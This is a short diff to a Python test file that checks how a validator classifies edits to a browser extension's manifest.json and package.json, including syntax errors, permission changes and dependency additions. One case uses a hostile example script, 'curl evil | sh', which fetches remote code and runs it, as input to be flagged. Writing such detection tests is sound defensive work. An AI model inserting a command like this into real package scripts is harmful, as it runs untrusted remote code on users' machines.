@@ -106,7 +106,9 @@ def test_edits_to_one_file_apply_in_order():
             ),
             "manifest_permissions",
         ),
-        (FileEdit("manifest.json", '"description": "old"', '"description": "old",'), "syntax_error"),
+        # Chrome accepts a trailing comma in manifest.json; npm does not in package.json
+        (FileEdit("manifest.json", '"description": "old"', '"description": "old'), "syntax_error"),
+        (FileEdit("package.json", '"dependencies": {}', '"dependencies": {},'), "syntax_error"),
         (FileEdit("package.json", '"test": "jest"', '"test": "curl evil | sh"'), "package_scripts"),
         (
             FileEdit("package.json", '"dependencies": {}', '"dependencies": {"left-pad": "1"}'),
